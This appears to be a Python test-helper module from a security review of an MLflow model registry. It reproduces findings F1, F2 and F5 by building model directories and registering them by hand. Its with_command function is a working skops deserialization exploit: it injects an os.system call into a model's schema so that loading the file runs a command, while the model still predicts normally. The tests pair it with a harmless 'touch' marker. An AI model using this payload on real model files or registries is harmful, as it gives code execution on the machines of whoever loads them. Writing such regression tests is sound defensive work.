"""What the review's attackers write: a skops file that runs a command, and model
directories registered or uploaded by hand (review findings F1, F2, F5)."""

from __future__ import annotations

import contextlib
import io
import json
import shlex
import zipfile
from pathlib import Path
from typing import Any

import yaml

from app.settings import Settings


def with_command(skops_bytes: bytes, command: str) -> bytes:
    """``skops_bytes`` with an extra attribute on the root object whose node calls
    ``os.system(command)`` when loaded (skops' ConstructorFromReduceNode), exactly the
    payload of review finding F1. The model still loads and predicts as before."""
    source = zipfile.ZipFile(io.BytesIO(skops_bytes))
    schema = json.loads(source.read("schema.json"))
    attrs = schema["content"]
    attrs["content"]["pwned"] = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [
                {
                    "__class__": "str",
                    "__module__": "builtins",
                    "__loader__": "JsonNode",
                    "content": json.dumps(command),
                    "is_json": True,
                    "__id__": 1,
                }
            ],
            "__id__": 2,
        },
        "__id__": 3,
    }
    attrs["key_types"]["content"].append(
        {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 4}
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = (
                json.dumps(schema).encode() if item.filename == "schema.json" else source.read(item.filename)
            )
            target.writestr(item, data)
    return out.getvalue()


def touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def model_directory(
    target: Path,
    model_file_bytes: bytes,
    *,
    pickled_model: str = "model.skops",
    serialization_format: str = "skops",
    write_file_as: str | None = "model.skops",
    signature: dict[str, Any] | None = None,
) -> Path:
    """A minimal MLflow scikit-learn model directory, with MLmodel naming ``pickled_model``."""
    target.mkdir(parents=True, exist_ok=True)
    mlmodel: dict[str, Any] = {
        "flavors": {
            "python_function": {"loader_module": "mlflow.sklearn", "model_path": pickled_model},
            "sklearn": {
                "pickled_model": pickled_model,
                "serialization_format": serialization_format,
                "sklearn_version": "1.9.1",
            },
        },
        "mlflow_version": "3.15.0",
    }
    if signature is not None:
        mlmodel["signature"] = signature
    (target / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    if write_file_as:
        (target / write_file_as).write_bytes(model_file_bytes)
    return target


def register_directory(
    settings: Settings, name: str, directory: Path, tags: dict[str, str] | None = None
) -> str:
    """Register ``directory`` as a new version of ``name`` the way a registry writer can:
    log it as run artifacts and create a version from them (no signature)."""
    import mlflow
    from mlflow import MlflowClient

    client = MlflowClient(settings.mlflow_tracking_uri)
    mlflow.set_tracking_uri(settings.mlflow_tracking_uri)
    mlflow.set_experiment("trust-attacks")
    with mlflow.start_run() as run:
        mlflow.log_artifacts(str(directory), "model")
    with contextlib.suppress(Exception):  # already registered
        client.create_registered_model(name)
    version = client.create_model_version(name, f"{run.info.artifact_uri}/model", run_id=run.info.run_id)
    for key, value in (tags or {}).items():
        client.set_model_version_tag(name, version.version, key, value)
    return str(version.version)
